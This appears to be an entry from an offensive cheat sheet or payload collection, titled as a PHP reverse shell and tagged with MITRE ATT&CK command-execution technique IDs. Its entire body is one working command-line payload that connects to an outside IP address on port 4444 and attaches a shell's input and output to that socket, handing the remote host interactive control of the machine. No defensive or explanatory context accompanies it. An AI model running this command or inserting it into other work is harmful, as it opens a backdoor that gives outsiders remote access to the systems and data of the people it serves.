# title: PHP's reverse shell, from the command line
# technique: T1059 T1059.004
# needs: php

php -r '$s=fsockopen("192.88.99.7",4444);proc_close(proc_open("sh", array(0=>$s, 1=>$s, 2=>$s), $p));'
